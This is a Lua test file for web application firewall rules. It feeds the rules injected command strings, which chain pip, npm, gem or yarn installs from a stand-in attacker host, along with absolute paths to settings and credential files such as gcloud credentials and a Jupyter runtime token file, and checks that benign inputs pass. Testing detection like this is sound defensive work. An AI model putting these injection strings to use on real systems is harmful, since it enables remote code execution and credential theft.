local rule_checks = require "rule_checks"

-- The two-hundred-and-nineteenth round (tests/edge_security/family_gen_blind_*.py of this round: education and
-- research platforms): the families found uncovered and the text beside them, value by value.
describe("edge.waf.rules two-hundred-and-nineteenth round on", function()
    local caught_by, clean

    setup(function()
        caught_by, clean = rule_checks.new(assert)
    end)

    it("commands: a package manager told to fetch from an index, a registry or a URL of the attacker's", function()
        caught_by(132105, { ";pip install --index-url http://198.51.100.9/simple/ helper",
            "x| npm install http://attacker.example/x.tgz", "a && pip3 install git+https://attacker.example/p.git",
            "SAMPLE; gem install --source http://attacker.example pkg", "q;yarn add --registry http://a.example/ x" })
        clean({ "cd api; pip install -r requirements.txt", "pip install --index-url is in the docs",
            "npm install; npm test", "we use pip; npm is for the front end" })
    end)

    it("files: an application's settings file or a home directory's hidden tool state, by absolute path", function()
        caught_by(130160, { "/opt/eprints3/archives/repo/cfg/cfg.d/database.pl", "/srv/app/config/settings.py",
            "/home/jovyan/.local/share/jupyter/runtime/jpserver-7.json", "/home/ann/.config/gcloud/credentials.db" })
        clean({ "TESS_CACHE=/home/runner/.cache/tess", "see config/settings.py in the repo",
            "/api/config.json returns the flags", "/home/ann/projects/thesis.tex" })
    end)
end)
